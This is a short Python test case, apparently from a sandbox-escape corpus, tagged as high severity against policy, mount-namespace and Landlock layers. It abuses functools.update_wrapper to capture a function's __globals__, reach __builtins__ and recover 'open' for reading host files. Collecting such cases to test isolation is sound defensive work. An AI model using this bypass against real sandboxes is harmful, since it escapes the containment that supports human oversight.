# technique: a library reads an attribute by a name it is given
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools

class Box:
    def __setattr__(self, name, value):
        found.append(value)

found = []

def trick():
    functools.update_wrapper(Box(), won, assigned=("__globals__",), updated=())
    table = found[0]["__builtins__"]
    return table["open"] if isinstance(table, dict) else table.open

read_host(trick)
